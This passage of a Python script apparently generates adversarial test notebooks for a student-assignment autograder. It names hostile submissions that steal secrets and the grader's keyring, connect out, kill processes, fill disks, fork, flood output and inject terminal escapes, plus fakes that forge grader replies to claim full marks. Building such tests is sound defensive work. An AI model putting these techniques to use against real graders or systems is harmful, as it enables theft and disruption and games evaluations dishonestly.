ESCAPES_AT_LOAD = f"""\
ATTACK = {TERMINAL_ATTACK!r}


class Loud:
    raise ValueError(ATTACK)
"""

SIGN_RAISES_ESCAPES = '''\
def sign(z: Tensor) -> Tensor:
    """One megabyte of terminal escapes, and bidirectional overrides that reorder a line."""
    raise ValueError((ATTACK + "\\u202e") * 10_000)
'''

SIGMOID_PRINTS_ESCAPES = '''\
def sigmoid(z: Tensor) -> Tensor:
    """The reference's, after printing the attack."""
    print(ATTACK, flush=True)
    e = torch.exp(-z.abs())
    return torch.where(z >= 0, 1 / (1 + e), e / (1 + e))
'''


def raw_files() -> dict[str, str]:
    """Files that are not notebooks nbformat would write: {file name: text}."""
    not_a_notebook = {"nbformat": TERMINAL_ATTACK, "nbformat_minor": 0, "metadata": {}, "cells": []}
    return {"ansi_nbformat.ipynb": json.dumps(not_a_notebook, indent=1) + "\n"}


def notebooks() -> dict[str, nbformat.NotebookNode]:
    return {
        "loop_top_level": notebook(
            "The reference, plus an endless loop as a top-level statement.",
            [*reference_with(), LOOP_TOP_LEVEL],
        ),
        "loop_class_body": notebook(
            "The reference, plus an endless loop hidden in a class body.",
            [*reference_with(), LOOP_CLASS_BODY],
        ),
        "loop_in_function": notebook("`sign` never returns.", reference_with(sign=SIGN_LOOPS)),
        "exit_top_level": notebook(
            "The reference, plus `os._exit(0)` at top level.", [*reference_with(), EXIT_TOP_LEVEL]
        ),
        "exit_in_function": notebook("`sign` calls `os._exit(0)`.", reference_with(sign=SIGN_EXITS)),
        "alloc_12gb": notebook("`sigmoid` allocates 12 GB.", reference_with(sigmoid=SIGMOID_ALLOCATES)),
        "flood_stdout": notebook(
            "`perceptron_predict` prints 200 MB.", reference_with(perceptron_predict=PREDICT_FLOODS)
        ),
        "fork_200": notebook(
            "`perceptron_fit` leaves 200 children running.", reference_with(perceptron_fit=FIT_FORKS)
        ),
        "forger": notebook(
            "Nothing implemented; claims full marks every way it can.",
            [FORGER_TOOLS, FORGER_TOP_LEVEL, FORGER_FUNCTIONS],
        ),
        "liar_tensor": notebook("Nothing implemented; every comparison says yes.", [LIAR]),
        "buggy_sign": notebook(
            "An honest submission with one bug: sign(0) == 1.", reference_with(sign=SIGN_ZERO_IS_ONE)
        ),
        "thief": notebook(
            "The reference, but `weighted_sum` first prints every secret it can read.",
            reference_plus(fill(THIEF_TOOLS), weighted_sum=once("_steal")),
        ),
        "connector": notebook(
            "The reference, but `weighted_sum` first connects to everything it can.",
            reference_plus(CONNECTOR_TOOLS, weighted_sum=once("_connect_everywhere")),
        ),
        "killer": notebook(
            "The reference, but `weighted_sum` first signals every process it can name.",
            reference_plus(KILLER_TOOLS, weighted_sum=once("_kill_everything")),
        ),
        "disk_filler": notebook(
            "The reference, but `weighted_sum` first fills every disk it can write to.",
            reference_plus(fill(FILLER_TOOLS), weighted_sum=once("_fill_the_disk")),
        ),
        "deep_recursion": notebook(
            "`sign` recurses until the C stack overflows.", reference_with(sign=SIGN_RECURSES)
        ),
        "huge_outputs": notebook(
            "Huge messages, fake verdicts on stdout, a deep list and a 16 MB tensor.",
            [reference_cells()["imports"], reference_cells()["weighted_sum"], HUGE_OUTPUTS],
        ),
        "patcher": notebook("Wrong answers; patches every comparison and the worker's replies.", [PATCHER]),
        "lying_eq": notebook("Nothing implemented; objects whose `__eq__` says yes.", [LYING_EQ]),
        "surrogate_message": notebook(
            "`sign` raises a lone surrogate; so does a class body, at load.",
            [*reference_with(sign=SIGN_RAISES_A_SURROGATE), SURROGATE_NOTE],
        ),
        "forged_load_reply": notebook(
            "The reference, but the load reply is forged.", [*reference_with(), FORGED_LOAD_REPLY]
        ),
        "terminal_escapes": notebook(
            "Terminal escapes in a note, in `sign`'s exception and in what `sigmoid` prints.",
            reference_plus(ESCAPES_AT_LOAD, sign=SIGN_RAISES_ESCAPES, sigmoid=SIGMOID_PRINTS_ESCAPES),
        ),
        "keyring_thief": notebook(
            "The reference, but a class body reads the grader's session keyring.",
            [*reference_with(), KEYRING_THIEF],
        ),
        "honest": notebook("The reference, as a student hands it in.", reference_with()),
    }


def main() -> None:
    for name, nb in notebooks().items():
        nbformat.validate(nb)
        nbformat.write(nb, HERE / f"{name}.ipynb")
        print(f"wrote {HERE.name}/{name}.ipynb")
    for name, text in raw_files().items():
        (HERE / name).write_text(text)
        print(f"wrote {HERE.name}/{name}")


if __name__ == "__main__":
    main()
